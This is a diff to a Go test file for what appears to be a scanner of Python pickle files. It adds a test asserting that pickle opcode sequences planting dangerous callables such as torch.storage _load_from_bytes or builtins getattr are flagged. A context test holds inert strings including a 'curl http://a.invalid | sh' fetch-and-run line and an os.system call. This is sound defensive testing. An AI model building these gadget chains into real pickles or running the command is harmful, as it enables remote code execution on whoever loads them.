@@ -168,6 +168,22 @@ func TestOneFindingPerCause(t *testing.T) {
 	}
 }
 
+// What must not be called later must not be planted either: a __setstate__ or a
+// partial could call it.
+func TestNeverHanded(t *testing.T) {
+	for _, text := range []string{
+		"PROTO 2;GLOBAL sklearn.isotonic IsotonicRegression;EMPTY_TUPLE;NEWOBJ;EMPTY_DICT;BINUNICODE _build_f;GLOBAL torch.storage _load_from_bytes;SETITEM;BUILD;STOP",
+		"PROTO 2;GLOBAL functools partial;GLOBAL torch.storage _load_from_bytes;BINBYTES N.;TUPLE2;REDUCE;STOP",
+		"PROTO 2;GLOBAL torch._tensor _rebuild_from_type_v2;MARK;GLOBAL torch.storage _load_from_bytes;GLOBAL torch Tensor;BINBYTES N.;TUPLE1;NONE;TUPLE;REDUCE;STOP",
+		"PROTO 2;GLOBAL collections defaultdict;GLOBAL builtins getattr;TUPLE1;REDUCE;STOP",
+		"PROTO 2;GLOBAL scipy.stats._continuous_distns norm_gen;EMPTY_TUPLE;NEWOBJ;EMPTY_DICT;BUILD;STOP",
+	} {
+		if j := judgeText("", text); above(j, finding.Framework) == nil {
+			t.Errorf("%s passes", text)
+		}
+	}
+}
+
 // Data in plain containers never raises a verdict, whatever it looks like.
 func TestDataIsNotEvidence(t *testing.T) {
 	text := "PROTO 2;EMPTY_LIST;MARK;BINUNICODE curl http://a.invalid | sh;BINUNICODE os.system('id');BINUNICODE /etc/cron.d/x;BINBYTES \"\\x80\\x02cos\\nsystem\\n.\";APPENDS;STOP"
